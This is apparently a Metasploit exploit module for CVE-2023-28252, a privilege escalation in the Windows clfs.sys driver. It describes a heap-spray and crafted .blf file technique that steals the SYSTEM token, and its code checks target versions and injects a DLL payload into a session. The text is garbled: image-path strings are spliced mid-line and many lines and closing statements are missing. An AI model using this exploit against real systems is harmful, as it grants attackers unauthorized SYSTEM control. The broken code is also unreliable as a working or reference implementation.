# This module requires Metasploit:
# Current source:
class MetasploitModule < Msf::Exploit::Local
Rank = GoodRanking
include Msf::Exploit::Local::WindowsKernel
include Msf::Post::File
include Msf::Post::Windows::Priv
include Msf::Post::Windows::Process
include Msf::Post::Windows::ReflectiveDLLInjection
prepend Msf::Exploit::Remote::AutoCheck
include Msf::Post::Windows::Version
def initialize(info = {})
'Name' => 'Windows Common Log File System Driver (clfs.sys) Elevation of Privilege Vulnerability',
'Description' => %q{
A privilege escalation vulnerability exists in the clfs.sys driver which comes installed by default on
Windows 10 21H2, Windows 11 21H2 and Windows Server 20348 operating systems.
The clfs.sys driver contains a function CreateLogFile that is used to createopen and edit '*.blf' (base log format) files. Inside a .blf file there are multiple blocks of data which
contain checksums to verify the integrity of the .blf file and to ensure the file looks and acts like a
.blf file. However, these files can be edited with CreateFileA or with fopen and then modified with
WriteFile or fwrite respectively in order to change the contents of the file and update their checksums accordingly.
This exploit makes use to two different kinds of specially crafted .blf files that are edited using the technique
mentioned above. There are multiple spray .blf files. The spray .blf files are specially crafted to initiate an out of
bounds read which reads from a contiguous block of memory. The block of memory it reads from contains a read-write pipe
that points to the address of the second type of .blf file - the trigger .blf file. The trigger .blf file is specially
crafted read the SYSTEM token and write it in the process of the exploit to achieve the local privilege escalation.
The exploits creates a controlled memory space by first looping over the CreatePipe function to
to create thousands of read-write pipes (which take up 0x90 bytes of memory). It then releases a certain number of
pipes from memory and calls CreateLogFile to open the pre-existing spray .blf files which when being opened fill the
0x90 byte gaps created by the deallocation of the pipes in memory, creating the controlled memory space.
This is a very brief and high overview description of what the exploit is actually doing. For a more detailed and in
depth analysis please refer to the following [reference](
'License' => MSF_LICENSE,
'Author' => [
'Ricardo Narvaja', # Original PoC (@ricnar456)
'Esteban.kazimirow', # Original PoC (@solidclt)
'jheysel-r7' # msf module
'Arch' => [ ARCH_X64 ],
'Platform' => 'win',
'SessionTypes' => [ 'meterpreter' ],
'DefaultOptions' => {
'EXITFUNC' =>'thread'
'Targets' => [
[ 'Windows x64', { 'Arch' => ARCH_X64 } ]
'References' => [
[ 'CVE', '2023-28252' ],
[ 'URL', '' ]
'DisclosureDate' => '2023-04-11',
'DefaultTarget' => 0,
'Privileged' => true,
'Notes' => {
'Stability' => [CRASH_SAFE],
'Reliability' => [UNRELIABLE_SESSION], # Should always return a session on the first run but after that a session is not guaranteed
'SideEffects' => []
'Compat' => {
'Meterpreter' => {
'Commands' => %w[
def check
unless session.platform == 'windows'
# Non-Windows systems are definitely not affected.
return Exploit::CheckCode::Safe
file_path = get_env('WINDIR') + '\\system32\\drivers\\clfs.sys'
unless file?(file_path)
return Exploit::CheckCode::Safe('The target system does not have clfs.sys in system32\\drivers\\')
version = get_version_info
if version.build_number.between?(Msf::WindowsVersion::Win10_20H2, Msf::WindowsVersion::Win10_21H2) || version.build_number == Msf::WindowsVersion::Win11_21H2 || version.build_number ==Msf::WindowsVersion::Server2022
return CheckCode::Appears("The target is running windows version: #{version.build_number} which has a vulnerable version of clfs.sys installed by default")
def exploit
if is_system?
fail_with(Failure::None, 'Session is already elevated')
if sysinfo['Architecture'] == ARCH_X64 && session.arch == ARCH_X86
fail_with(Failure::NoTarget, 'Running against WOW64 is not supported')
elsif sysinfo['Architecture'] == ARCH_X64 && target.arch.first == ARCH_X86
fail_with(Failure::NoTarget, 'Session host is x64, but the target is specified as x86')
elsif sysinfo['Architecture'] == ARCH_X86 && target.arch.first == ARCH_X64
fail_with(Failure::NoTarget, 'Session host is x86, but the target is specified as x64')
encoded_payload = payload.encoded::File.join(Msf::Config.data_directory, 'exploits', 'CVE-2023-28252', 'CVE-2023-28252.x64.dll'),
[encoded_payload.length].pack('I<') + encoded_payloadprint_good('Exploit finished, wait for (hopefullyprivileged) payload execution to complete.')